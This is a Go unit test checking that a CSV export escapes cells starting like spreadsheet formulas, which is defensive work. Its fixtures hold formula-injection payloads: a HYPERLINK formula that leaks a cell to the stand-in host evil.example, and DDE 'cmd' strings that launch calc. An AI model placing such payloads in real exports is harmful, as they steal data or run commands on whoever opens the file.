package gap_test

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/assistd/assist/gap"
)

// A knowledge manager opening the export in a spreadsheet sees customers'
// and reviewers' text as text: a cell that starts like a formula (= + - @,
// tab, CR) is prefixed with ', so HYPERLINK or DDE never runs; other
// text and the numbers are left as they are.
func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	c := &gap.Cluster{ID: "c1", Status: gap.StatusOpen, Lang: "en", Intent: "-intent", Size: 2, Score: 6,
		Question:       `=HYPERLINK("http://evil.example/?"&A1,"click for zorblax refund")`,
		Questions:      []string{"+cmd|'/c calc'!A1 qwzx planet gift", "plain question"},
		ProposedAnswer: "@SUM(1+1)*cmd|' /C calc'!A0",
		Answer:         "\t=1+1",
		ReviewedBy:     "\r=2+2",
		PublishedDoc:   "ok: a normal value",
	}
	var b strings.Builder
	if err := gap.WriteCSV(&b, []*gap.Cluster{c}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("CSV %q: %v", b.String(), err)
	}
	row := map[string]string{}
	for i, h := range rows[0] {
		row[h] = rows[1][i]
	}
	want := map[string]string{
		"intent":          "'-intent",
		"question":        `'=HYPERLINK("http://evil.example/?"&A1,"click for zorblax refund")`,
		"questions":       "'+cmd|'/c calc'!A1 qwzx planet gift | plain question",
		"proposed_answer": "'@SUM(1+1)*cmd|' /C calc'!A0",
		"answer":          "'\t=1+1",
		"reviewed_by":     "'\r=2+2",
		"published_doc":   "ok: a normal value",
		"size":            "2",
		"score":           "6.000",
		"id":              "c1",
	}
	for k, v := range want {
		if row[k] != v {
			t.Errorf("%s = %q, want %q", k, row[k], v)
		}
	}
}
